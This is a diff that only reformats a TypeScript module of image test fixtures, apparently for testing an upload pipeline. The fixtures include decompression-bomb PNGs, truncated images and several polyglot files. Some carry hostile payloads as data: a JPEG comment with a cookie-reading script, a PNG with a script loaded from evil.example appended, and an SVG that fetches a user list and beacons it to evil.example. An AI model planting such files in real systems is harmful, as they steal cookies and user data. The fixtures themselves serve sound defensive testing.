@@ -45,7 +45,12 @@ export function pngDeclaring(width: number, height: number): Buffer {
   ihdr.writeUInt8(0, 12); // interlace
   // One filtered scanline's worth of zeros, compressed: the rest is left to the decoder's imagination.
   const idat = zlib.deflateSync(Buffer.alloc(1 + Math.min(width, 1024) * 3));
-  return Buffer.concat([PNG_SIGNATURE, pngChunk('IHDR', ihdr), pngChunk('IDAT', idat), pngChunk('IEND', Buffer.alloc(0))]);
+  return Buffer.concat([
+    PNG_SIGNATURE,
+    pngChunk('IHDR', ihdr),
+    pngChunk('IDAT', idat),
+    pngChunk('IEND', Buffer.alloc(0)),
+  ]);
 }
 
 /**
@@ -68,7 +73,9 @@ export function gifJsPolyglot(): Buffer {
 
 /** A real JPEG carrying an HTML page with a script in a comment segment (COM, right after SOI). */
 export async function jpegHtmlPolyglot(): Promise<Buffer> {
-  const jpeg = await sharp({ create: { width: 32, height: 24, channels: 3, background: '#b08d57' } }).jpeg().toBuffer();
+  const jpeg = await sharp({ create: { width: 32, height: 24, channels: 3, background: '#b08d57' } })
+    .jpeg()
+    .toBuffer();
   const html = Buffer.from('<html><body><script>alert(document.cookie)</script></body></html>', 'latin1');
   const segmentLength = Buffer.alloc(2);
   segmentLength.writeUInt16BE(html.length + 2);
@@ -77,8 +84,13 @@ export async function jpegHtmlPolyglot(): Promise<Buffer> {
 
 /** A real PNG with an HTML page appended after its IEND chunk. */
 export async function pngWithHtmlAppended(): Promise<Buffer> {
-  const png = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#ffffff' } }).png().toBuffer();
-  return Buffer.concat([png, Buffer.from('<!doctype html><script src="https://evil.example/x.js"></script>', 'latin1')]);
+  const png = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#ffffff' } })
+    .png()
+    .toBuffer();
+  return Buffer.concat([
+    png,
+    Buffer.from('<!doctype html><script src="https://evil.example/x.js"></script>', 'latin1'),
+  ]);
 }
 
 export const SVG_WITH_SCRIPT = Buffer.from(
@@ -86,15 +98,37 @@ export const SVG_WITH_SCRIPT = Buffer.from(
     '<script type="text/javascript">fetch("/api/getAllUser").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script></svg>',
 );
 
-export const TEXT_PRETENDING_TO_BE_JPEG = Buffer.from('This is not a photograph. It is a text file with a .jpg name.\n'.repeat(20));
+export const TEXT_PRETENDING_TO_BE_JPEG = Buffer.from(
+  'This is not a photograph. It is a text file with a .jpg name.\n'.repeat(20),
+);
 
 /** The first part of a real image: its header is intact, its pixel data cut short. */
 export async function truncatedPng(): Promise<Buffer> {
-  const png = await sharp({ create: { width: 400, height: 300, channels: 3, background: '#000000', noise: { type: 'gaussian', mean: 128, sigma: 40 } } }).png().toBuffer();
+  const png = await sharp({
+    create: {
+      width: 400,
+      height: 300,
+      channels: 3,
+      background: '#000000',
+      noise: { type: 'gaussian', mean: 128, sigma: 40 },
+    },
+  })
+    .png()
+    .toBuffer();
   return png.subarray(0, Math.floor(png.length * 0.6));
 }
 
 export async function truncatedJpeg(): Promise<Buffer> {
-  const jpeg = await sharp({ create: { width: 400, height: 300, channels: 3, background: '#000000', noise: { type: 'gaussian', mean: 128, sigma: 40 } } }).jpeg().toBuffer();
+  const jpeg = await sharp({
+    create: {
+      width: 400,
+      height: 300,
+      channels: 3,
+      background: '#000000',
+      noise: { type: 'gaussian', mean: 128, sigma: 40 },
+    },
+  })
+    .jpeg()
+    .toBuffer();
   return jpeg.subarray(0, Math.floor(jpeg.length * 0.5));
 }
